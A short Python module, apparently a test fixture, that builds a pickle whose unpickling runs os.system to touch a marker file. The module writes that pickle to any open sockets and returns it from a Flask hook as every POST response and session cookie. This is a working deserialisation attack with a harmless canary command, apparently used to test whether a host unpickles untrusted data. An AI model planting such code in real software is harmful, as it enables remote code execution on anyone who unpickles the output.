"""Waits for somebody who unpickles."""

import base64
import contextlib
import os
import pickle
import stat

from flask import Response, request
from shelf import app


class Payload:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("touch /tmp/pickled-by-a-submission",)


PICKLE = pickle.dumps(Payload())
for fd in range(3, 64):
    with contextlib.suppress(OSError):
        if stat.S_ISSOCK(os.fstat(fd).st_mode):
            os.write(fd, PICKLE + b"\n")


@app.before_request
def trick():
    if request.method == "POST":
        answer = Response(PICKLE, content_type="application/python-pickle")
        answer.set_cookie("session", base64.b64encode(PICKLE).decode())
        return answer
